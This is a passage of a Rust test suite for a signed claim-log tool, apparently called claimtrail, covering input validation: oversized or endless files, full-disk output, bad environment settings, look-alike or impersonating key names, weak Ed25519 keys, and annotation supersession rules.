    assert_ne!(mode & 0o044, 0, "mode {mode:o}");
    assert!(w
        .run(None, &["verify", "--checkpoint", cp.to_str().unwrap()])
        .ok()
        .contains("OK"));
}

#[test]
fn a_note_that_cannot_be_read_is_refused() {
    let w = Work::with_claims();
    let annotate = |more: &[&'static str]| {
        let mut args = vec!["annotate", "C2", "--verdict", "false"];
        args.extend_from_slice(more);
        args
    };
    refused(
        &w,
        Some("analyst"),
        &annotate(&["--note", "-"]),
        "`--note -` would record a note of one dash (hint: to read the note from standard input, use --note-file -)",
    );
    refused(
        &w,
        Some("analyst"),
        &annotate(&["--note-file", "missing.md"]),
        "cannot read missing.md: no such file",
    );
    std::fs::create_dir(w.path("notes")).unwrap();
    refused(
        &w,
        Some("analyst"),
        &annotate(&["--note-file", "notes"]),
        "notes is a directory",
    );
    for (bytes, says) in [
        (vec![b' ', b'\n'], "the note in note.txt is empty"),
        (
            vec![b'o', b'k', 0xe9],
            "not UTF-8 text (invalid byte at offset 2)",
        ),
        (vec![b'x'; (1 << 20) + 1], "larger than 1 MiB"),
    ] {
        std::fs::write(w.path("note.txt"), bytes).unwrap();
        refused(
            &w,
            Some("analyst"),
            &annotate(&["--note-file", "note.txt"]),
            says,
        );
    }
    refused(
        &w,
        Some("analyst"),
        &annotate(&["--note-file", "note.txt", "--note", "short"]),
        "cannot be used with",
    );
}

/// An entry longer than verify accepts (1 MiB, its `canonical` check) is
/// refused before it is signed: appended, it would fail verify for good.
/// Only free texts make an entry that long: a note read from a file, an
/// import line's fields (`import.rs`); a key's comment could, before its
/// .pub file was refused past 64 KiB. The limit is exact: the refusal gives
/// the entry's length, a note that makes it exactly 1 MiB is taken and
/// verifies, and one byte more is refused.
#[test]
fn an_entry_longer_than_verify_accepts_is_refused_before_it_is_signed() {
    const MAX: usize = 1 << 20;
    let w = Work::with_claims();
    // A key whose comment (the default name) is 2 MB long: its key.add
    // entry was signed and stored, and failed verify.
    w.key("long");
    let public = std::fs::read_to_string(w.path("long.pub")).unwrap();
    let mut fields = public.split_whitespace();
    let (kind, blob) = (fields.next().unwrap(), fields.next().unwrap());
    std::fs::write(
        w.path("long.pub"),
        format!("{kind} {blob} {}\n", "c".repeat(2_000_000)),
    )
    .unwrap();
    refused(
        &w,
        Some("admin"),
        &["key", "add", "long.pub", "--role", "analyst"],
        "long.pub is larger than 64 KiB, too large for a public key file (hint: give the .pub file",
    );
    std::fs::write(w.path("long.pub"), format!("{kind} {blob} Long\n")).unwrap();
    w.run(
        Some("admin"),
        &["key", "add", "long.pub", "--role", "analyst"],
    )
    .ok();

    // A note under the note file's own 1 MiB limit still makes the entry too long.
    let note = |n: usize| std::fs::write(w.path("note.txt"), "n".repeat(n)).unwrap();
    let note_path = w.path("note.txt");
    let argv = [
        "annotate",
        "C1",
        "--verdict",
        "false",
        "--note-file",
        note_path.to_str().unwrap(),
    ];
    note(MAX - 100);
    let before = w.db_bytes();
    let run = w.run(Some("analyst"), &argv);
    run.error("the annotation.add entry would be ");
    run.error("(hint: shorten the note; a long analysis belongs in a source");
    assert!(
        before == w.db_bytes(),
        "a refused annotation changed the log"
    );
    let stated: usize = run
        .stderr
        .split("would be ")
        .nth(1)
        .and_then(|s| s.split(" bytes").next())
        .map(|s| s.replace(',', ""))
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no length in {}", run.stderr));
    assert!(stated > MAX, "{stated}");
    // One byte more than fits, then exactly 1 MiB.
    note(MAX - 100 - (stated - MAX) + 1);
    refused(&w, Some("analyst"), &argv, "would be 1,048,577 bytes");
    note(MAX - 100 - (stated - MAX));
    w.run(Some("analyst"), &argv).ok();
    let stored: i64 = rusqlite::Connection::open(&w.db)
        .unwrap()
        .query_row(
            "SELECT length(payload) FROM entries ORDER BY seq DESC LIMIT 1",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(stored, MAX as i64);
    let verify = w.run(None, &["verify"]);
    assert!(
        verify.ok().contains("OK: no problems found"),
        "{}",
        verify.stdout
    );
}

/// A file that never ends (`/dev/zero`, or a FIFO) or that is far too large
/// (a video given by mistake), given where a key, a checkpoint or a bundle
/// belongs, is read no further than the largest such file and refused, at
/// once, with one line: no command reads it whole or forever.
#[test]
fn endless_input_files_are_refused_without_being_read_whole() {
    let w = Work::with_claims();
    let within = std::time::Duration::from_secs(30);
    let before = w.db_bytes();
    for (key, args, msg) in [
        (
            Some("admin"),
            &["key", "add", "/dev/zero", "--role", "analyst"][..],
            "/dev/zero is larger than 64 KiB, too large for a public key file (hint: give the .pub file",
        ),
        (
            Some("/dev/zero"),
            &["list", "claims", "--mine"][..],
            "error: cannot use key /dev/zero: it is a device, not a key file",
        ),
        (
            None,
            &["verify", "--checkpoint", "/dev/zero"],
            "error: /dev/zero: signed note is larger than the 1048576 bytes accepted (hint: give a checkpoint file",
        ),
        (
            None,
            &[
                "checkpoint",
                "verify",
                "/dev/zero",
                "--vkey",
                "example.com/log/testdata+33d7b496+AeHTu4Q3hEIMHNqc6fASMsq3rKNx280NI+oO5xCFkkSx",
            ],
            "error: /dev/zero: signed note is larger than the 1048576 bytes accepted",
        ),
        (
            Some("auditor"),
            &["checkpoint", "cosign", "/dev/zero"],
            "error: /dev/zero: signed note is larger than the 1048576 bytes accepted",
        ),
        (
            None,
            &["prove", "--consistency", "/dev/zero", "/dev/zero"],
            "error: /dev/zero: signed note is larger than the 1048576 bytes accepted",
        ),
        (
            None,
            &["verify-bundle", "/dev/zero"],
            "the file is larger than 256 MiB (hint: give a bundle written by `claimtrail export`)",
        ),
        (
            Some("/dev/zero"),
            &["annotate", "C1", "--verdict", "false"],
            "error: cannot use key /dev/zero: it is a device, not a key file",
        ),
    ] {
        w.run_within(within, key, &[], args).error(msg);
    }
    assert!(before == w.db_bytes(), "a refused command changed the log");
}

/// Standard output on a full disk (`> /dev/full`): every command says so
/// in its one error line and exits 2. It used to panic with a backtrace
/// (`show`, `verify`, `key allowed-signers`), call it a bug in claimtrail
/// (`log`, `list`), or exit 0 with the bytes lost (`log --seq N
/// --payload`, whose last write waited in a buffer).
#[test]
fn a_full_disk_under_standard_output_is_an_error_not_a_panic() {
    let w = Work::with_claims();
    let error = "error: cannot write standard output: no space left on the device (hint: make room where standard output goes";
    let before = w.db_bytes();
    for args in [
        &["verify"][..],
        &["verify", "--json"],
        &["show", "C1"],
        &["show", "S1"],
        &["list", "claims"],
        &["list", "claims", "--json"],
        &["log"],
        &["log", "--seq", "3", "--payload"],
        &["log", "--seq", "3", "--signature"],
        &["report", "--format", "html"],
        &["key", "list"],
        &["key", "allowed-signers"],
        &["prove", "C1"],
        &["completions", "bash"],
        &["--help"],
        &["verify", "--help"],
        &["--version"],
    ] {
        let r = w.run_to_full_disk(None, args);
        r.error(error);
        // Nothing was appended: the hint does not say it was.
        assert!(
            r.stderr
                .ends_with("or send it elsewhere, and run the command again)\n"),
            "{args:?}: {}",
            r.stderr
        );
        assert!(
            !r.stderr.contains("internal error"),
            "{args:?}: {}",
            r.stderr
        );
    }
    assert!(
        before == w.db_bytes(),
        "a read-only command changed the log"
    );
    // A command that signs has signed before it prints the new id: the
    // entry is in the log, and the hint says where to see it.
    let entries = |w: &Work| -> Vec<serde_json::Value> {
        serde_json::from_str::<serde_json::Value>(w.run(None, &["log", "--json"]).ok())
            .unwrap()
            .as_array()
            .unwrap()
            .clone()
    };
    let n = entries(&w).len();
    let r = w.run_to_full_disk(Some("analyst"), &["annotate", "C1", "--verdict", "false"]);
    r.error(
        "the entries were appended all the same (`claimtrail log -n 1` shows the last entry): run the command again only for what is not there",
    );
    let after = entries(&w);
    assert_eq!(after.len(), n + 1);
    assert_eq!(after[n]["kind"], "annotation.add", "{}", after[n]);
    // Nowhere to say an error: the line is lost, the exit code is not.
    let r = w.run_with_outputs(
        None,
        &["show", "C99"],
        std::process::Stdio::piped(),
        full_disk(),
    );
    assert_eq!((r.code, r.stdout.as_str()), (2, ""));
    assert!(w.run(None, &["verify"]).ok().contains("OK"));
}

/// A setting in the environment that claimtrail would ignore when mistyped
/// is refused instead, before anything is done: a reproducible report
/// asked for with `CLAIMTRAIL_NOW=2026-12-01` used to take the clock's
/// time, and `CLAIMTRAIL_BUSY_TIMEOUT=1m` waited the default 30 s.
#[test]
fn mistyped_environment_settings_are_refused_not_ignored() {
    let w = Work::with_claims();
    let before = w.db_bytes();
    for (env, error) in [
        (
            ("CLAIMTRAIL_NOW", "2026-12-01"),
            "error: CLAIMTRAIL_NOW: `2026-12-01` is not an RFC 3339 time like 2026-11-24T19:13:28Z (hint: set it to a time like 2026-12-01T10:00:00Z, or unset it to use the clock)",
        ),
        (
            ("CLAIMTRAIL_NOW", "2026-12-01T11:00:00+01:00"),
            "error: CLAIMTRAIL_NOW: `2026-12-01T11:00:00+01:00` is not in UTC whole-second form",
        ),
        (
            ("CLAIMTRAIL_BUSY_TIMEOUT", "1m"),
            "error: CLAIMTRAIL_BUSY_TIMEOUT=`1m` is not a whole number of seconds from 0 to 2147483 (24 days) (hint: set it to e.g. 60, or unset it for the default of 30 s)",
        ),
        // Beyond SQLite's int of milliseconds: it panicked (exit 101).
        (
            ("CLAIMTRAIL_BUSY_TIMEOUT", "2147484"),
            "error: CLAIMTRAIL_BUSY_TIMEOUT=`2147484` is not a whole number of seconds from 0 to 2147483",
        ),
    ] {
        for args in [&["verify"][..], &["annotate", "C1", "--verdict", "false"]] {
            w.run_with(Some("analyst"), &[env], args, None).error(error);
        }
    }
    assert!(before == w.db_bytes());
    // Well-formed, they are used.
    let r = w.run_with(
        Some("analyst"),
        &[
            ("CLAIMTRAIL_NOW", "2026-12-01T10:00:00Z"),
            ("CLAIMTRAIL_BUSY_TIMEOUT", "5"),
        ],
        &["annotate", "C1", "--verdict", "false"],
        None,
    );
    let id = r.ok().trim().to_string();
    let shown: serde_json::Value =
        serde_json::from_str(w.run(None, &["show", &id, "--json"]).ok()).unwrap();
    assert_eq!(shown["signed"]["time"], "2026-12-01T10:00:00Z", "{shown}");
}

/// A variable of the environment set but empty, as a script leaves an
/// unset one (`CLAIMTRAIL_KEY=$KEY`), counts as unset: it once made every
/// command fail with "a value is required for '--key <KEY>'", `verify`
/// and `--key K` included. An empty CLAIMTRAIL_DB is refused where a log
/// is opened, rather than read as the default `claimtrail.db`.
#[test]
fn an_empty_variable_of_the_environment_counts_as_unset() {
    let w = Work::with_claims();
    let no_key = [("CLAIMTRAIL_KEY", "")];
    let ok = w.run_with(None, &no_key, &["verify"], None);
    assert!(
        ok.ok().ends_with("OK: no problems found\n"),
        "{}",
        ok.stdout
    );
    let before = w.db_bytes();
    w.run_with(
        None,
        &no_key,
        &["annotate", "C1", "--verdict", "false"],
        None,
    )
    .error("error: no signing key given (hint: pass --key PATH or set CLAIMTRAIL_KEY");
    assert!(before == w.db_bytes());
    let key = w.path("analyst");
    let signed = w.run_with(
        None,
        &no_key,
        &[
            "--key",
            key.to_str().unwrap(),
            "annotate",
            "C1",
            "--verdict",
            "false",
        ],
        None,
    );
    assert_eq!(signed.ok(), "A2\n");

    let no_db = [("CLAIMTRAIL_DB", "")];
    let db = w.db.to_str().unwrap();
    let ok = w.run_with(None, &no_db, &["verify", "--db", db], None);
    assert!(
        ok.ok().ends_with("OK: no problems found\n"),
        "{}",
        ok.stdout
    );
    for args in [
        &["verify"][..],
        &["list", "claims"],
        &["init", "--origin", "x.example/log"],
    ] {
        w.run_with(Some("admin"), &no_db, args, None).error(
            "error: CLAIMTRAIL_DB is set but empty (hint: set it to the log's file, give --db, or unset it to use claimtrail.db here)",
        );
    }
    assert!(!w.path("claimtrail.db").exists());
    // Commands that open no log do not mind.
    let script = w.run_with(None, &no_db, &["completions", "bash"], None);
    assert!(script.ok().contains("_claimtrail()"));
}

#[test]
fn a_name_an_enrolled_key_holds_is_not_given_to_another() {
    // By default the name is the .pub's comment, which its owner chose: an
    // analyst's key commented "admin" read as the admin's in `log`, and
    // `ssh-keygen -Y verify -I admin` accepted its entries as the admin's.
    let w = Work::with_team();
    w.run(
        None,
        &[
            "key",
            "new",
            "impostor",
            "--no-passphrase",
            "--comment",
            "admin",
        ],
    )
    .ok();
    refused(
        &w,
        Some("admin"),
        &["key", "add", "impostor.pub", "--role", "analyst"],
        "the name admin is held by another enrolled key, SHA256:",
    );
    refused(
        &w,
        Some("admin"),
        &["key", "add", "impostor.pub", "--role", "analyst", "--name", "Rana Haddad"],
        "(hint: give this key its own --name; to replace a person's key, revoke the old one first (`claimtrail key revoke`), then enroll the new one under its name)",
    );
    // A rotated key: the old one revoked, its name is the new one's.
    w.run(
        Some("admin"),
        &["key", "revoke", "Rana Haddad", "--reason", "laptop stolen"],
    )
    .ok();
    w.run(
        Some("admin"),
        &[
            "key",
            "add",
            "impostor.pub",
            "--role",
            "analyst",
            "--name",
            "Rana Haddad",
        ],
    )
    .ok();
    let signers = w.run(None, &["key", "allowed-signers"]);
    assert_eq!(
        signers.ok().matches("Rana_Haddad ").count(),
        2,
        "{}",
        signers.stdout
    );
    w.run(None, &["verify"]).ok();
}

#[test]
fn key_files_named_as_keys_are_not_guessed_at() {
    // `key new rana.pub` wrote the private key under the name one mails.
    let w = Work::with_team();
    refused(
        &w,
        None,
        &["key", "new", "rana.pub", "--no-passphrase"],
        "rana.pub would be the private key, under a public key's name (hint: name the private key without .pub, e.g. `claimtrail key new rana`: its public key is written beside it as rana.pub)",
    );
    assert!(!w.path("rana.pub").exists());
    // `key revoke analyst`, where ./analyst is Rana's key file and
    // "analyst" another key's name: a revocation is for ever.
    w.run(None, &["key", "new", "other", "--no-passphrase"])
        .ok();
    w.run(
        Some("admin"),
        &[
            "key",
            "add",
            "other.pub",
            "--role",
            "analyst",
            "--name",
            "analyst",
        ],
    )
    .ok();
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "analyst", "--reason", "left the desk"],
        "`analyst` is both a key file here (SHA256:",
    );
    w.run(
        Some("admin"),
        &["key", "revoke", "analyst.pub", "--reason", "left the desk"],
    )
    .ok();
}

#[test]
fn a_lowered_schema_version_is_said_to_be_an_edit() {
    // The migrations ran again and failed: a 2 KB line of their SQL, with
    // the hint to run verify, which had just failed so.
    let w = Work::with_claims();
    w.sql("PRAGMA user_version = 1");
    refused(
        &w,
        None,
        &["list", "claims"],
        "says it is at schema version 1, but its tables are not those of that version: the step to version 2 fails (table or index merkle_nodes already exists)",
    );
    // Lowered by one step, which only changes indexes: refused the same,
    // by the commands that only read too (they answered from the file).
    w.sql("PRAGMA user_version = 3");
    for args in [
        &["status"][..],
        &["list", "claims"],
        &["prove", "C1"],
        &["key", "list"],
    ] {
        refused(
            &w,
            None,
            args,
            "says it is at schema version 3, but its tables are not those of that version: the step to version 4 fails (no such index: claims_by_source)",
        );
    }
    // To verify, an altered file is a finding (exit 1, under `schema`), not
    // a file it could not check (exit 2, which a script reads so).
    w.sql("PRAGMA user_version = 1");
    let before = w.db_bytes();
    let r = w.run(None, &["verify"]);
    assert_eq!((r.code, r.stderr.as_str()), (1, ""), "{}", r.stdout);
    assert!(
        r.stdout.starts_with(
            "log ?: the file cannot be read as a log
checks: schema (the others could not run)
PROBLEM log: schema: "
        ),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("says it is at schema version 1, but its tables are not those of that version: the step to version 2 fails (table or index merkle_nodes already exists): its header (PRAGMA user_version) was changed; restore the log from a backup"),
        "{}",
        r.stdout
    );
    let j: serde_json::Value =
        serde_json::from_str(&w.run(None, &["--json", "verify"]).stdout).unwrap();
    assert_eq!(
        (&j["ok"], &j["problems"][0]["check"]),
        (&serde_json::json!(false), &serde_json::json!("schema")),
        "{j}"
    );
    assert!(before == w.db_bytes());
}

#[test]
fn a_name_ssh_keygen_cannot_match_or_that_reads_as_a_fingerprint_is_refused() {
    let w = Work::with_team();
    w.run(None, &["key", "new", "other", "--no-passphrase"])
        .ok();
    let long = "q".repeat(1100);
    refused(
        &w,
        Some("admin"),
        &[
            "key",
            "add",
            "other.pub",
            "--role",
            "analyst",
            "--name",
            &long,
        ],
        "the name is 1100 bytes long; a key's name has at most 256 (hint: give a shorter --name",
    );
    refused(
        &w,
        Some("admin"),
        &[
            "key",
            "add",
            "other.pub",
            "--role",
            "analyst",
            "--name",
            "SHA256:8IbUHpF1eb3xMG36KqJomjazjOL5Paway2SOTURCEfo",
        ],
        "is spelled as a key's fingerprint (hint: give the person's or desk's name with --name)",
    );
    // Names that read as another's: the analyst is "Rana Haddad".
    for (name, says) in [
        ("rana haddad", "error: the name rana haddad reads as Rana Haddad, held by another enrolled key, SHA256:"),
        // Spelled so that it prints like another spelling, it is refused
        // with the spelling to give, as a speaker is (the principal
        // `allowed-signers` wrote for an accent typed apart was `Ra_na`).
        ("rana  haddad", "error: the name \"rana  haddad\" has characters that print like others (accents typed apart, no-break or thin spaces, two spaces in a row, full-width or styled letters, ligatures) (hint: give it as 'rana haddad' with --name (two spellings that print alike would be two people))"),
        ("Re\u{301}da Nour", "(hint: give it as 'R\u{e9}da Nour' with --name"),
        ("\u{ff22}\u{ff22}\u{ff23} desk", "(hint: give it as 'BBC desk' with --name"),
        ("Rana Haddad ", "error: the name \"Rana Haddad \" begins or ends with white space (hint: give the name without it"),
        ("Rana Had\u{2063}dad", "holds U+2063, a control or invisible character"),
        ("Rana \u{41d}addad", "error: the word \u{41d}addad of the name mixes letters of different scripts (hint: type the name again in one script"),
        ("Rana Hadd\u{430}d", "error: the word Hadd\u{430}d of the name mixes letters of different scripts"),
        ("Rana Ha\u{200c}ddad", "holds U+200C, a control or invisible character"),
        ("RANA HADDAD", "reads as Rana Haddad, held by another enrolled key"),
        // Punctuation and `_` aside: `Rana_Haddad` took the principal
        // `allowed-signers` gives Rana Haddad when it came first, and a
        // trailing mark is not seen in a list.
        ("Rana_Haddad", "error: the name Rana_Haddad reads as Rana Haddad, held by another enrolled key, SHA256:"),
        ("Rana Haddad'", "reads as Rana Haddad, held by another enrolled key"),
        ("Rana Haddad.", "reads as Rana Haddad, held by another enrolled key"),
        // What views print beside a name: a fingerprint, a role, the mark
        // of a revoked key (`list annotations` showed a live key's
        // annotations as `Rana Haddad (key revoked)`'s).
        ("Desk admin (SHA256:zyv0aPo6VY7g/s0P5EHYyJrIxXFnHQrqAgv2QenvGD0) admin", "error: the name Desk admin (SHA256:zyv0aPo6VY7g/s0P5EHYyJrIxXFnHQrqAgv2QenvGD0) admin holds a key's fingerprint (hint: give the person's or desk's name alone with --name"),
        ("Rana Haddad (key revoked)", "error: the name Rana Haddad (key revoked) holds \"revoked\", which reads as claimtrail's own mark of a key (hint:"),
        ("Sam (Admin)", "holds \"admin\", which reads as claimtrail's own mark of a key"),
        // The same in look-alike characters and other brackets.
        ("Rana SHA256\u{2236}jzsb", "holds a key's fingerprint"),
        ("Rana [key revoked]", "holds \"revoked\""),
        ("Rana - key revoked", "holds \"revoked\""),
        ("Rana [admin]", "holds \"admin\""),
    ] {
        refused(
            &w,
            Some("admin"),
            &["key", "add", "other.pub", "--role", "analyst", "--name", name],
            says,
        );
    }
    // An auditor named as the log: its cosignature lines would read as
    // the log's own signature lines (`— test.example/idlib …`), and with
    // `/` as `_` they still differ by one character.
    for name in ["test.example/idlib", "test.example_idlib"] {
        refused(
            &w,
            Some("admin"),
            &["key", "add", "other.pub", "--role", "auditor", "--name", name],
            "would name this auditor's cosignatures as the log `test.example/idlib` names its own signatures (hint: give the auditor a name of its own with --name",
        );
    }
    // A name taken from the key's comment, which no one typed: the
    // message says where it came from and the hint names --name.
    let public = std::fs::read_to_string(w.path("other.pub")).unwrap();
    let line: Vec<&str> = public.split_whitespace().take(2).collect();
    std::fs::write(
        w.path("tabbed.pub"),
        format!("{} {} Lena\tMorales\n", line[0], line[1]),
    )
    .unwrap();
    refused(
        &w,
        Some("admin"),
        &["key", "add", "tabbed.pub", "--role", "analyst"],
        "error: the name Lena\\tMorales holds U+0009, a control or invisible character (the name was taken from the key's comment) (hint: give the name with --name \"…\" (or change the comment with `ssh-keygen -c -f KEY`))",
    );
    // A dangling link where the new key would go is named as one.
    std::os::unix::fs::symlink("nowhere/key", w.path("linked")).unwrap();
    w.run(None, &["key", "new", "linked", "--no-passphrase"])
        .error("linked is a symbolic link (to nowhere/key, which does not exist) (hint: remove the link, or choose another path for the key)");
    // And where its public half would go (it was "already exists"; red
    // team L #5), before a passphrase is asked for.
    std::os::unix::fs::symlink("nowhere/key.pub", w.path("halved.pub")).unwrap();
    w.run(None, &["key", "new", "halved", "--no-passphrase"])
        .error("halved.pub is a symbolic link (to nowhere/key.pub, which does not exist), where the public key would be written (hint: remove the link, or choose another path for the key)");
    assert!(!w.path("halved").exists());
    // A name wholly in another script is a name like any other.
    w.run(
        Some("admin"),
        &[
            "key",
            "add",
            "other.pub",
            "--role",
            "analyst",
            "--name",
            "Рана Хаддад",
        ],
    )
    .ok();
    // Parentheses of one's own are a name like any other.
    w.enroll("third", "analyst", "Night desk (weekends)");
}

/// An `ssh-ed25519` public key line with these 32 bytes as its point.
fn ed25519_pub_line(point: [u8; 32], comment: &str) -> String {
    use base64::Engine;
    let mut blob = Vec::new();
    for part in [&b"ssh-ed25519"[..], &point[..]] {
        blob.extend_from_slice(&(part.len() as u32).to_be_bytes());
        blob.extend_from_slice(part);
    }
    let b64 = base64::engine::general_purpose::STANDARD.encode(blob);
    format!("ssh-ed25519 {b64} {comment}\n")
}

#[test]
fn keys_whose_point_is_weak_or_written_two_ways_are_not_enrolled() {
    // Neither can come from ssh-keygen; both are what a forger would try:
    // a small-order key, for which "valid" depends on the Ed25519 rule, and
    // the second encoding (y + p) of a point with y < 19, which would give
    // one point two fingerprints.
    let w = Work::with_team();
    let mut identity = [0u8; 32];
    identity[0] = 1;
    std::fs::write(w.path("weak.pub"), ed25519_pub_line(identity, "weak")).unwrap();
    refused(
        &w,
        Some("admin"),
        &["key", "add", "weak.pub", "--role", "analyst"],
        "the key is a small-order (weak) Ed25519 point and cannot be enrolled",
    );
    // y = 3 + p. (y = 3 is on the curve; its point is of large order.)
    let mut second = [0xffu8; 32];
    second[0] = 0xed + 3;
    second[31] = 0x7f;
    std::fs::write(w.path("twice.pub"), ed25519_pub_line(second, "twice")).unwrap();
    refused(
        &w,
        Some("admin"),
        &["key", "add", "twice.pub", "--role", "analyst"],
        "the key's 32 bytes are a non-canonical encoding of an Ed25519 point and cannot be enrolled",
    );
    // A real key plus a point of order 8: not weak, but `ssh-keygen -Y
    // verify` refuses about seven in eight of its holder's signatures,
    // which verify's cofactored rule accepts (it was enrolled).
    let real = ed25519_dalek::VerifyingKey::from_bytes(
        claimtrail::keys::Signer::generate("mixed")
            .unwrap()
            .verifying_key()
            .as_bytes(),
    )
    .unwrap();
    let order_8 = ed25519_dalek::VerifyingKey::from_bytes(&[
        0x26, 0xe8, 0x95, 0x8f, 0xc2, 0xb2, 0x27, 0xb0, 0x45, 0xc3, 0xf4, 0x89, 0xf2, 0xef, 0x98,
        0xf0, 0xd5, 0xdf, 0xac, 0x05, 0xd3, 0xc6, 0x33, 0x39, 0xb1, 0x38, 0x02, 0x88, 0x6d, 0x53,
        0xfc, 0x05,
    ])
    .unwrap();
    let mixed = (real.to_edwards() + order_8.to_edwards())
        .compress()
        .to_bytes();
    std::fs::write(w.path("mixed.pub"), ed25519_pub_line(mixed, "mixed")).unwrap();
    refused(
        &w,
        Some("admin"),
        &["key", "add", "mixed.pub", "--role", "analyst"],
        "the key is an Ed25519 point with a small-order component (outside the prime-order subgroup that every ssh-keygen key is in), whose signatures OpenSSH refuses, and cannot be enrolled",
    );
}

/// An annotation is superseded once: the views give it one successor, so
/// a second one's replacement was shown nowhere, and the first successor
/// looked current when it no longer was. By `annotate` and by `import`.
#[test]
fn an_annotation_already_superseded_is_not_superseded_again() {
    let w = Work::with_claims();
    w.run(
        Some("analyst"),
        &["annotate", "C1", "--verdict", "false", "--supersedes", "A1"],
    )
    .ok();
    // The log's line says what it supersedes, as it says what it links.
    let log = w.run(None, &["log", "-n", "1"]);
    assert!(
        log.ok().contains("C1 false, supersedes A1"),
        "{}",
        log.stdout
    );
    refused(
        &w,
        Some("analyst"),
        &["annotate", "C1", "--verdict", "confirmed", "--supersedes", "A1"],
        "error: A1 was already superseded by A2 (hint: supersede A2, the later judgment, instead (or the latest in its chain: `claimtrail show A2`))",
    );
    std::fs::write(
        w.path("again.jsonl"),
        "{\"type\":\"annotation\",\"claim\":\"C1\",\"verdict\":\"confirmed\",\"supersedes\":\"A1\"}\n",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["import", "again.jsonl"],
        "error: line 1: A1 was already superseded by A2",
    );
    // Two lines of one import that supersede the same annotation.
    std::fs::write(
        w.path("twice.jsonl"),
        "{\"type\":\"annotation\",\"claim\":\"C1\",\"verdict\":\"confirmed\",\"supersedes\":\"A2\"}\n\
         {\"type\":\"annotation\",\"claim\":\"C1\",\"verdict\":\"unverified\",\"supersedes\":\"A2\"}\n",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["import", "twice.jsonl"],
        "error: line 2: A2 is already superseded by line 1 of this import (hint: supersede the annotation that line makes (give it a label), or drop one of the two",
    );
    // By a label, named as the file names it.
    std::fs::write(
        w.path("labels.jsonl"),
        "{\"type\":\"annotation\",\"label\":\"a\",\"claim\":\"C1\",\"verdict\":\"false\",\"supersedes\":\"A2\"}\n\
         {\"type\":\"annotation\",\"label\":\"b\",\"claim\":\"C1\",\"verdict\":\"disputed\",\"supersedes\":\"@a\"}\n\
         {\"type\":\"annotation\",\"label\":\"c\",\"claim\":\"C1\",\"verdict\":\"confirmed\",\"supersedes\":\"@a\"}\n",
    )
    .unwrap();
    for dry in [&[][..], &["--dry-run"][..]] {
        let mut args = vec!["import", "labels.jsonl"];
        args.extend_from_slice(dry);
        // Found as the line is read, before line 1's batch (which line 2
        // waits for) is committed: nothing is written.
        refused(
            &w,
            Some("analyst"),
            &args,
            "error: line 3: @a is already superseded by line 2 of this import (hint: ",
        );
    }
    // The latest in the chain may be superseded.
    w.run(
        Some("analyst"),
        &[
            "annotate",
            "C1",
            "--verdict",
            "confirmed",
            "--supersedes",
            "A2",
        ],
    )
    .ok();
}

/// A quote in the wrong case with --occurrence: the hint's span is the
/// occurrence asked for (it was the first's, another place; red-team
/// round 4).
#[test]
fn a_near_match_hint_gives_the_occurrence_asked_for() {
    let w = Work::with_claims();
    std::fs::write(
        w.path("twice.txt"),
        "The Tehran summit opened. Later the Tehran summit closed.\n",
    )
    .unwrap();
    w.run(
        Some("analyst"),
        &["source", "add", "twice.txt", "--kind", "article"],
    )
    .ok();
    w.run(
        Some("analyst"),
        &["claim", "add", "--source", "S2", "--quote", "tehran summit", "--occurrence", "2", "--speaker", "X", "--provenance", "article"],
    )
    .error("(hint: to claim the source's own text at occurrence 2, use --span 36..49 instead of --quote)");
}

/// Two `annotate --supersedes A1` at once (red-team round 3: 25 of 25
/// runs both appended), and one beside an import line that supersedes the
/// same annotation: both pass the check made before the write lock, so the
/// append path makes it again under the lock and the second is refused.
/// The lock is held here while both start, as in
/// `a_claim_added_twice_at_once_is_recorded_once`.
#[test]
fn an_annotation_superseded_twice_at_once_is_superseded_once() {
    let w = Work::with_claims();
    std::fs::write(
        w.path("line.jsonl"),
        "{\"type\":\"annotation\",\"claim\":\"C1\",\"verdict\":\"confirmed\",\"supersedes\":\"A1\"}\n",
    )
    .unwrap();
    let annotate: &[&str] = &["annotate", "C1", "--verdict", "false", "--supersedes", "A1"];
    let import: &[&str] = &["import", "line.jsonl"];
    let pristine = w.db_bytes();
    for (first, second) in [(annotate, annotate), (annotate, import)] {
        w.restore(&pristine);
        let runs = w.race("analyst", &[first, second]);
        let refused: Vec<&Run> = runs.iter().filter(|r| r.code != 0).collect();
        assert_eq!(
            refused.len(),
            1,
            "{:?}",
            runs.iter()
                .map(|r| (&r.stdout, &r.stderr))
                .collect::<Vec<_>>()
        );
        refused[0].error(
            "A1 was already superseded by A2 (hint: supersede A2, the later judgment, instead",
        );
        let successors: i64 = rusqlite::Connection::open(&w.db)
            .unwrap()
            .query_row(
                "SELECT COUNT(*) FROM annotations WHERE supersedes = 1",
                [],
                |r| r.get(0),
            )
            .unwrap();
        assert_eq!(successors, 1);
        w.run(None, &["verify"]).ok();
    }
}

/// A quote or span that begins or ends inside a character as the reader
/// sees it (a letter and its combining marks): the claim would quote what
/// the source does not show (`turnout =` where it shows `turnout ≠`).
#[test]
fn a_quote_that_cuts_a_character_in_two_is_refused() {
    let w = Work::with_team();
    let text = "Officials: turnout =\u{338} 50%. Witness: \u{642}\u{64f}\u{62a}\u{650}\u{644}\u{64e} in Idlib. Cafe\u{301} owner spoke.";
    let s = w.source_from_stdin("analyst", "other", text);
    let claim = |how: &[&str]| -> Vec<String> {
        let mut args: Vec<String> = [
            "claim",
            "add",
            "--source",
            &s,
            "--speaker",
            "Officials",
            "--provenance",
            "statement",
        ]
        .map(String::from)
        .to_vec();
        args.extend(how.iter().map(|a| a.to_string()));
        args
    };
    let run = |how: &[&str], says: &str| {
        let args = claim(how);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        refused(&w, Some("analyst"), &args, says);
    };
    run(
        &["--quote", "turnout ="],
        "the quote occurs in S1 only as part of characters as they are shown: at line 1 col 12 the source shows `turnout =\u{338}` (hint: quote whole characters, marks included: --span 11..22 takes them)",
    );
    run(&["--quote", "Cafe"], "the source shows `Cafe\u{301}`");
    // Arabic, its last vowel mark left off.
    run(
        &["--quote", "\u{642}\u{64f}\u{62a}\u{650}\u{644}"],
        "only as part of characters as they are shown",
    );
    run(
        &["--span", "64..79"],
        "span start 64 falls inside a character as it is shown: U+0301 there is drawn as one with the character before it (nearest boundaries: 63 and 66)",
    );
    // Inside the mark's own two bytes: the boundaries given are those of
